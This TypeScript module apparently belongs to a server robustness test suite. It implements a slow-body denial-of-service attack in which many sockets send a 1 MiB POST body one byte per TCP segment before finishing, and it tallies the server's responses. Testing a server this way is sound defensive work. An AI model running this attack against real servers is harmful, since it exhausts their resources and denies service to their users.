/**
 * Issue 14, defect 2: a Content-Length POST of the 1 MiB limit whose body is sent one byte per
 * write (TCP_NODELAY: one byte per segment), by every attacker at once, for 30 % of the attack's
 * time; then the rest of the body in one write, so that each request can be answered.
 */
import type { Socket } from 'node:net';
import { performance } from 'node:perf_hooks';
import { setImmediate as nextTurn } from 'node:timers/promises';
import { connectAttackers, firstStatus, type Outcome } from './attack-socket.js';
import { tally, type Attack } from './attack.js';

const BODY = 1024 * 1024;
const CONNECT_TIMEOUT_MS = 5_000;
/** Bytes written by one attacker before the others get their turn. */
const WRITES_PER_TURN = 32;
/** The share of the attack spent writing byte by byte: the rest of each body must still arrive within the server's 10 s request timeout. */
const BYTE_BY_BYTE_SHARE = 0.3;

export const oneByteSegments: Attack = async ({ target, attackers, durationMs }, started) => {
  const begun = performance.now();
  const deadline = begun + durationMs;
  const byteByByteUntil = begun + durationMs * BYTE_BY_BYTE_SHARE;
  const body = Buffer.alloc(BODY, 'a');
  const head = Buffer.from(`POST / HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\nContent-Length: ${BODY}\r\n\r\n`);
  const sockets = await connectAttackers(target, attackers, CONNECT_TIMEOUT_MS);
  started();
  let sentBytes = 0;
  const attack = async (socket: Socket | undefined): Promise<Outcome> => {
    if (socket === undefined) return 'refused';
    socket.write(head);
    let sent = 0;
    while (sent < BODY && performance.now() < byteByByteUntil && !socket.destroyed) {
      for (let i = 0; i < WRITES_PER_TURN && sent < BODY; i++) socket.write(body.subarray(sent, ++sent));
      // A write that could not go out at once would be merged with the next ones: wait for it.
      if (socket.writableLength > 0) await drainedOrClosed(socket);
      else await nextTurn();
    }
    if (sent < BODY) socket.write(body.subarray(sent));
    sentBytes += head.length + BODY;
    const outcome = await firstStatus(socket, 'POST', deadline - performance.now());
    socket.destroy();
    return outcome;
  };
  const outcomes = await Promise.all(sockets.map(attack));
  return tally(outcomes, sentBytes);
};

function drainedOrClosed(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      socket.off('drain', done);
      socket.off('close', done);
      resolve();
    };
    socket.once('drain', done);
    socket.once('close', done);
  });
}
